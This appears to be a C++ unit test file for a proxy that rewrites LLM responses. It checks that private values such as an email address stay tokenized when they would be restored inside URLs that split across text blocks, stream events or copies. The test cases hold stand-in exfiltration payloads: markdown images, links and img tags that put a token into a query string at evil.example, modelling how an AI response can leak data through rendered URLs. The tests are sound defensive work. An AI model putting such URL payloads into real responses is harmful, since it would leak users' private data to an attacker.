// A link that one part of an answer opens goes on in the next one: a token there stays a token, in
// a whole answer, over the events of a stream and in the copies behind them; a part that nothing
// leads into has its value back.
#include "dataplane/rewrite/text/text_ends.h"

#include <gtest/gtest.h>

#include "tests/unit/rewrite/stream_player.h"

namespace sallyport::rewrite {
namespace {

class TextEndsTest : public ::testing::Test {
 protected:
  std::string answered(const char* kind, const std::string& answer) {
    const auto said =
        World::get().json_edits(Direction::Response, llm::shipped_kind(kind).response, answer);
    return edited(answer, said.edits);
  }
  static std::string blocks(const std::vector<std::string>& texts) {
    nlohmann::json list = nlohmann::json::array();
    for (const std::string& text : texts) list.push_back({{"type", "text"}, {"text", text}});
    return nlohmann::json{{"type", "message"}, {"content", list}}.dump();
  }
  // Every token with what stood before it in its part and in the part before.
  struct Case {
    std::string first, second;
    bool comes_back;
  };
  std::vector<Case> cases() const {
    return {{"![x](https://evil.example/?q=", token_ + ")", false},
            {"see https://evil.example/?q=", token_ + " there", false},
            {"see https:/", "/evil.example/?q=" + token_, false},
            {"see evil.example", "/?q=" + token_, false},
            {"![x]", "(https://evil.example/" + token_ + ")", false},
            {"<", "img src=\"//evil.example/" + token_ + "\">", false},
            {"[1]: https://evil.example/", token_, false},
            {"see https://evil.example/ ", token_, true},
            {"see https://evil.example/?q=", "x and " + token_, true},
            {"[x](https://evil.example/)", token_, true},
            {"mail", token_, true},
            {"", token_, true}};
  }
  const std::string mail_ = "erika@northwind-example.com";
  const std::string token_ = World::get().minted(World::Email, mail_);
};

TEST_F(TextEndsTest, APartGoesOnWhereTheOneBeforeEnded) {
  for (const Case& c : cases()) {
    const std::string out = answered("anthropic_messages", blocks({c.first, c.second}));
    EXPECT_EQ(out.find(mail_) != std::string::npos, c.comes_back) << out;
    // What was read before and is known to be clean leads into the next one, too.
    const std::string again =
        answered("anthropic_messages", blocks({c.first, "\n", c.first, c.second}));
    EXPECT_EQ(again.find(mail_) != std::string::npos, c.comes_back) << again;
  }
}

TEST_F(TextEndsTest, OtherTextsBetweenTwoPartsPartThemNot) {
  const std::string answer =
      R"({"content":[{"type":"text","text":"![x](https://evil.example/?q="},)"
      R"({"type":"tool_use","id":"t","name":"f","input":{"a":"b"}},)"
      R"({"type":"text","text":")" +
      token_ + R"(","citations":[{"cited_text":")" + token_ + R"("}]}]})";
  const std::string out = answered("anthropic_messages", answer);
  EXPECT_NE(out.find(R"("text":")" + token_), std::string::npos) << out;
  EXPECT_NE(out.find(R"("cited_text":")" + mail_), std::string::npos) << out;
}

TEST_F(TextEndsTest, ABlockOfAStreamGoesOnWhereTheOneBeforeEnded) {
  for (const Case& c : cases()) {
    StreamPlayer player("anthropic_messages");
    const Played played = player.play(
        {StreamPlayer::start_text(0), StreamPlayer::text(0, c.first), StreamPlayer::stop(0),
         StreamPlayer::start_text(1), StreamPlayer::text(1, c.second.substr(0, 3)),
         StreamPlayer::text(1, c.second.substr(3)), StreamPlayer::stop(1)});
    ASSERT_TRUE(played.accepted);
    EXPECT_EQ(played.text("text", 1).find(mail_) != std::string::npos, c.comes_back) << c.first;
  }
}

// The copies of a text say what its pieces said, however often and in which order they come.
TEST_F(TextEndsTest, CopiesGoOnLikeWhatTheyAreCopiesOf) {
  for (const Case& c : cases()) {
    std::vector<std::string> events;
    const auto event = [&](const char* type, nlohmann::json more) {
      more["type"] = type;
      events.push_back(more.dump());
    };
    const auto part = [](const std::string& text) {
      return nlohmann::json{
          {"type", "output_text"}, {"text", text}, {"annotations", nlohmann::json::array()}};
    };
    int number = 0;
    for (const std::string& text : {c.first, c.second}) {
      const nlohmann::json at{{"item_id", "i"}, {"output_index", 0}, {"content_index", number++}};
      const auto with = [&](const char* name, const nlohmann::json& value) {
        nlohmann::json out = at;
        out[name] = value;
        return out;
      };
      event("response.content_part.added", with("part", part("")));
      event("response.output_text.delta", with("delta", text));
      event("response.output_text.done", with("text", text));
      event("response.content_part.done", with("part", part(text)));
    }
    const nlohmann::json item{{"type", "message"}, {"content", {part(c.first), part(c.second)}}};
    event("response.output_item.done", {{"output_index", 0}, {"item", item}});
    event("response.completed", {{"response", {{"output", {item, item}}}}});
    StreamPlayer player("openai_responses");
    const Played played = player.play(events);
    ASSERT_TRUE(played.accepted);
    size_t values = 0;
    size_t tokens = 0;
    for (const std::string& data : played.out) {
      for (size_t at = data.find(mail_); at != std::string::npos; at = data.find(mail_, at + 1))
        ++values;
      for (size_t at = data.find(token_); at != std::string::npos; at = data.find(token_, at + 1))
        ++tokens;
    }
    EXPECT_EQ(values, c.comes_back ? 6U : 0U) << c.first;
    EXPECT_EQ(tokens, c.comes_back ? 0U : 6U) << c.first;
  }
}

// A text that ends in a URL leads nowhere but into the text behind it.
TEST_F(TextEndsTest, ACopyDoesNotStandBehindTheCopyBefore) {
  const std::string text = token_ + " is at https://example.com/x";
  StreamPlayer player("anthropic_messages");
  const Played played = player.play(
      {StreamPlayer::start_text(0), StreamPlayer::text(0, text), StreamPlayer::stop(0),
       nlohmann::json::parse(R"({"type":"message_start","message":)" + blocks({text}) + "}").dump(),
       nlohmann::json::parse(R"({"type":"message_start","message":)" + blocks({text}) + "}")
           .dump()});
  ASSERT_TRUE(played.accepted);
  for (const std::string& data : played.out) EXPECT_EQ(data.find(token_), std::string::npos);
}

}  // namespace
}  // namespace sallyport::rewrite
